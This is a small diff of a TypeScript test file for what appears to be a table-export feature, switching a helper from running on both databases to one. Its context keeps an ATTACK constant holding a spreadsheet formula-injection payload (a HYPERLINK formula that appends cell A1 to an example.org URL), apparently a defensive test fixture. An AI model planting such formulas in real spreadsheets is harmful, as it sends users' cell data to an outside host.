@@ -8,7 +8,7 @@ import { addTestAction, addTestUpdate } from '../support/builders/actions.ts'
 import { appOn } from '../support/app.ts'
 import { type Browser, signedIn } from '../support/browser.ts'
 import { addCast, type Cast } from '../support/cast.ts'
-import { onBothDatabases } from '../support/databases/databases.ts'
+import { onOneDatabase } from '../support/databases/databases.ts'
 import { hereFor } from '../support/builders/inspections.ts'
 import { addTestMeeting } from '../support/builders/meetings.ts'
 import { addTestPlan, type TestPlan } from '../support/builders/plans.ts'
@@ -21,7 +21,7 @@ const ATTACK = '=HYPERLINK("https://example.org?"&A1,"Open")'
 type Row = Record<string, CellValue | null | undefined>
 type Tables = Record<string, Row[]>
 
-onBothDatabases('tables to save', (db) => {
+onOneDatabase('tables to save', (db) => {
   let cast: Cast
   let olive: Browser
   let plan: TestPlan
